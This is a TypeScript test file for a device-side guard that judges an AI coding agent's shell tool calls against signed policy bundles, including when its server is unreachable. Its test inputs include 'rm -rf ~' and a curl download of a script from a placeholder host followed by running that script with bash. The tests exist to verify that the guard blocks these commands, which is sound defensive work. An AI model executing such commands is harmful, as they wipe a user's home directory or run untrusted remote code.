import { beforeEach, describe, expect, it } from 'vitest';
import type { PolicyBundle } from './core/device.ts';
import { fail, ok } from './core/result.ts';
import type { Mode } from './core/verdict.ts';
import type { Asked } from './device/relay.ts';
import { createDeviceJudge } from './device-judge.ts';
import { agents } from './plugs.ts';
import { readPolicyFiles } from './wiring.ts';

const { schema, policies, digest } = readPolicyFiles('/nonexistent/policies', '');
const asks =
  '@id("ask-deploy") @effect("ask") forbid (principal, action, resource) when { context.programs.contains("deployer") };';
const lax = '@id("let-all") permit (principal, action, resource);';

const bundle = (mode: Mode, more: Partial<PolicyBundle> = {}): PolicyBundle => ({
  v: 1,
  issuedAt: '2026-01-01T00:00:00.000Z',
  expiresAt: '2026-01-04T00:00:00.000Z',
  digest,
  mode,
  schema,
  policies,
  rules: { detectors: [], suppressions: [], tools: [], secrets: [] },
  keyid: 'k',
  ...more,
});

let nowMs: number;
let troubles: string[];
beforeEach(() => {
  nowMs = Date.parse('2026-01-02T00:00:00.000Z');
  troubles = [];
});

const judgeIn = (mode: Mode) =>
  createDeviceJudge({
    home: '/home/ada/.warder',
    identity: { person: 'ada', device: 'laptop', via: 'token' },
    mode,
    nowMs: () => nowMs,
    onTrouble: (code) => troubles.push(code),
  });

let calls = 0;
const toRun = (command: string, more: object = {}): Asked => {
  calls += 1;
  const body = {
    session_id: 's',
    cwd: '/home/ada/app',
    hook_event_name: 'PreToolUse',
    tool_name: 'Bash',
    tool_input: { command },
    tool_use_id: `t${calls}`,
    ...more,
  };
  return { agent: 'claude-code', event: 'PreToolUse', at: new Date(nowMs).toISOString(), body: JSON.stringify(body) };
};

describe('a device that cannot reach its server', () => {
  it('lets go what is harmless, and refuses what the policy forbids', async () => {
    const judge = judgeIn('enforce');
    judge.use(ok(bundle('enforce')));
    expect(judge.digest()).toBe(digest);
    const harmless = await judge.answer(toRun('ls'));
    expect(harmless.answered).toMatchObject({ effective: 'allow', enforced: true, degraded: 'server-unreachable' });
    expect(harmless.reply.body).not.toContain('deny');
    const harmful = await judge.answer(toRun('rm -rf ~'));
    expect(harmful.answered).toMatchObject({ decision: 'deny', effective: 'deny', degraded: 'server-unreachable' });
    expect(harmful.answered?.rules).toContain('never-destroy');
    expect(JSON.parse(harmful.reply.body).hookSpecificOutput.permissionDecision).toBe('deny');
  });

  it('refuses what a person would have to be asked about', async () => {
    const judge = judgeIn('enforce');
    judge.use(ok(bundle('enforce', { policies: [...policies, { id: 'own/ask.cedar', text: asks }] })));
    expect(troubles).toEqual([]);
    const { answered, reply } = await judge.answer(toRun('deployer --now'));
    expect(answered).toMatchObject({ decision: 'ask', effective: 'deny' });
    expect(answered?.why).toContain('nobody can be asked');
    expect(reply.body).toContain('"deny"');
  });

  it('refuses what scores as an alert although the policy lets it go', async () => {
    const judge = judgeIn('enforce');
    judge.use(ok(bundle('enforce', { policies: [{ id: 'own/lax.cedar', text: lax }] })));
    expect((await judge.answer(toRun('ls'))).answered?.effective).toBe('allow');
    const { answered } = await judge.answer(toRun('rm -rf ~'));
    expect(answered).toMatchObject({ decision: 'deny', effective: 'deny', rules: ['warder-alone'] });
    expect(answered?.why).toMatch(/calls of such risk wait until it can \(score \d+\)/);
  });

  it('blocks nothing in observe mode, and says what it would have done', async () => {
    const judge = judgeIn('enforce');
    judge.use(ok(bundle('observe')));
    const { answered, reply } = await judge.answer(toRun('rm -rf ~'));
    expect(answered).toMatchObject({
      decision: 'deny',
      enforced: false,
      effective: 'allow',
      degraded: 'server-unreachable',
    });
    expect(reply.body).not.toContain('"deny"');
  });

  it('knows what the session read while the server still answered', async () => {
    const rulesOf = async (before: readonly Asked[]) => {
      const judge = judgeIn('enforce');
      judge.use(ok(bundle('enforce', { policies: [{ id: 'own/lax.cedar', text: lax }] })));
      for (const each of before) judge.heard(each);
      return (await judge.answer(toRun('bash /tmp/x.sh'))).answered?.rules;
    };
    expect(await rulesOf([])).toEqual(['let-all']);
    expect(await rulesOf([toRun('curl -o /tmp/x.sh https://x.example/x.sh')])).toEqual(['warder-alone']);
  });

  it('has an answer of each agent’s own for every call', async () => {
    const judge = judgeIn('enforce');
    judge.use(ok(bundle('enforce')));
    for (const adapter of agents) {
      const asked: Asked = { ...toRun('x'), agent: adapter.id, event: adapter.callHook ?? 'PreToolUse', body: 'junk' };
      const refused = adapter.refuse(adapter.callHook ?? 'PreToolUse', 'W');
      const { reply, answered } = await judge.answer(asked);
      expect([reply.status, reply.exit], adapter.id).toEqual([refused.status, refused.exit]);
      expect(answered).toBeUndefined();
      expect(judge.undecided(asked, 'W')).toEqual(refused);
    }
  });
});

describe('a device without a policy it may judge by', () => {
  const missing = fail('missing', 'none');
  const unusable = [
    ['was never given', missing, { enforce: 'deny', observe: 'allow' }],
    ['is damaged', fail('bundle-damaged', 'damaged'), { enforce: 'deny', observe: 'deny' }],
    ['is not signed by its server', fail('bundle-signature', 'forged'), { enforce: 'deny', observe: 'deny' }],
    ['is of another version', ok(bundle('observe', { schema: 'no schema' })), { enforce: 'deny', observe: 'deny' }],
    [
      'has rules it cannot read',
      ok(bundle('observe', { rules: { detectors: [7], suppressions: [], tools: [], secrets: [] } })),
      { enforce: 'deny', observe: 'deny' },
    ],
    [
      'has expired',
      ok(bundle('observe', { expiresAt: '2026-01-01T12:00:00.000Z' })),
      { enforce: 'deny', observe: 'deny' },
    ],
  ] as const;

  it.each(unusable)('that %s', async (_, policy, expected) => {
    for (const mode of ['enforce', 'observe'] as const) {
      const judge = judgeIn(mode);
      judge.use(policy);
      expect(judge.digest()).toBe('');
      const { answered, reply } = await judge.answer(toRun('ls'));
      expect(answered, mode).toMatchObject({
        decision: 'deny',
        effective: expected[mode],
        degraded: 'policy-unavailable',
      });
      expect(reply.body.includes('"deny"')).toBe(expected[mode] === 'deny');
    }
  });

  it('stops to judge by one that expires while it runs', async () => {
    const judge = judgeIn('observe');
    judge.use(ok(bundle('enforce')));
    expect((await judge.answer(toRun('ls'))).answered?.effective).toBe('allow');
    nowMs = Date.parse('2026-01-05T00:00:00.000Z');
    expect((await judge.answer(toRun('ls'))).answered).toMatchObject({
      effective: 'deny',
      degraded: 'policy-unavailable',
    });
    judge.use(ok(bundle('enforce', { expiresAt: '2026-01-09T00:00:00.000Z' })));
    expect((await judge.answer(toRun('ls'))).answered?.effective).toBe('allow');
  });
});

it('keeps what belongs to one session of one agent in one lane', () => {
  const judge = judgeIn('enforce');
  const [one, other] = [toRun('a'), toRun('b')];
  expect(judge.laneOf(one)).toBe(judge.laneOf(other));
  expect(judge.laneOf(toRun('a', { session_id: 's2' }))).not.toBe(judge.laneOf(one));
  expect(judge.laneOf({ ...one, body: 'junk' })).not.toBe(judge.laneOf(one));
});
